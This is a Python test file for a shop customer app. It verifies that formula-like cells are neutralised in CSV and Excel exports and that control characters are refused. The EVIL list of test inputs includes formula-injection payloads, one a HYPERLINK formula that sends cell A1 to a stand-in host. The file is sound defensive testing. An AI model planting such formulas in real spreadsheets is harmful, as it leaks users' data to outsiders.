"""Formula-like cells are neutralised in every file the program writes, and come back as they
were when the program reads its own report; free text refuses control characters."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.domain.errors import InputError, InputErrors
from app.domain.text import FORMULA_START, check_text, safe_cell, unsafe_cell
from app.services import customers, importing
from app.services.actor import Actor
from db.engine import Database
from db.models import Customer

HEADER = ["姓名", "手机", "车牌号", "备注"]
EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+86 138 0013 8000", "-2+3",
        "@SUM(A1:A9)", "\tTAB", "\rCR", "'=already quoted", "=1+1"]
BOUNDED = settings(max_examples=60, deadline=None,
                   suppress_health_check=[HealthCheck.function_scoped_fixture])


@given(st.text(max_size=30))
@settings(max_examples=200, deadline=None)
def test_safe_cell_round_trips_and_never_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_START)
    assert unsafe_cell(cell) == text


def test_numbers_are_not_quoted() -> None:
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell("湘A12345") == "湘A12345"


def _csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([HEADER, *rows])
    return path


def test_the_refused_rows_report_neutralises_formulas_and_imports_back(
        database: Database, manager: Actor, tmp_path: Path) -> None:
    rows = [[name, "12345", "湘A1111" + str(i), "note"] for i, name in enumerate(EVIL)]
    source = _csv(tmp_path / "客户.csv", rows)
    with database.read() as s:
        found = importing.preview(s, source)
    report = tmp_path / "refused.csv"
    assert importing.write_report(found, report) == len(EVIL)  # the phone 12345 is refused
    with report.open(encoding="utf-8-sig", newline="") as f:
        written = list(csv.reader(f))[1:]
    for line in written:
        assert not any(cell.startswith(FORMULA_START) for cell in line), line
    assert written[0][0].startswith("'=HYPERLINK")
    # read back by the importer: every cell as it was in the shop's file
    with database.read() as s:
        again = importing.preview(s, report)
    assert [r.cells[:4] for r in again.rows] == [r.cells for r in found.rows]
    # a quote the shop typed before "=" is Excel's "this is text": read as the text it shows
    assert found.rows[EVIL.index("'=already quoted")].cells[0] == "=already quoted"


def test_a_workbook_written_through_safe_cell_holds_no_formula(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    evil = [e for e in EVIL if "\r" not in e]  # XML itself turns a CR into a line feed
    for value in evil:
        sheet.append([safe_cell(value), safe_cell(-12.5)])
    path = tmp_path / "export.xlsx"
    book.save(path)
    read = load_workbook(path).active
    for row, value in zip(read.iter_rows(), evil, strict=True):
        assert row[0].data_type == "s" and unsafe_cell(row[0].value) == value
        assert row[1].value == -12.5


@pytest.mark.parametrize("bad", ["张\x00三", "张三\x1b[31m", "\x07李四", "王\x7f五", "赵\x85六"])
def test_a_name_with_a_control_character_is_refused_naming_the_field(bad: str) -> None:
    with pytest.raises(InputErrors) as refused:
        customers.check_customer(customers.CustomerForm(bad, ("13800138000",)))
    (error,) = refused.value.errors
    assert error.field == "name" and "name contains an invisible control character" in error.text()


def test_line_breaks_pass_in_a_note_but_nul_does_not() -> None:
    clean, _ = customers.check_customer(customers.CustomerForm(
        "张三", ("13800138000",), note="第一行\n第二行\t完"))
    assert clean.note == "第一行\n第二行\t完"
    with pytest.raises(InputErrors) as refused:
        customers.check_customer(customers.CustomerForm("张三", ("13800138000",),
                                                        address="长沙\x00县"))
    assert [e.field for e in refused.value.errors] == ["address"]


def test_every_other_text_column_is_guarded_at_the_database(database: Database, admin) -> None:  # type: ignore[no-untyped-def]
    """A text field no form checks still cannot store NUL: the unit of work is refused whole."""
    from app.services import shop

    with database.read() as s:
        before = s.query(Customer).count()
    with pytest.raises(InputErrors) as refused, database.write() as s:
        s.add(Customer(name="好名字", kind="person", note="ok"))
        s.flush()
        profile = shop.profile(s)
        s.add(Customer(name="x", kind="person", address="\x00" + profile.name))
    assert [e.field for e in refused.value.errors] == ["address"]
    with database.read() as s:
        assert s.query(Customer).count() == before  # nothing half-saved


@given(st.text(max_size=20), st.sampled_from(["name", "address", "contact_person", "note"]))
@settings(max_examples=100, deadline=None)
def test_check_text_accepts_exactly_the_text_without_controls(text: str, field: str) -> None:
    controls = [c for c in text
                if (ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F]
    try:
        assert check_text(text, field, multiline=True) == text
    except InputError as refused:
        assert controls and refused.field == field
        assert field.replace("_", " ") in refused.text()
    else:
        assert not controls
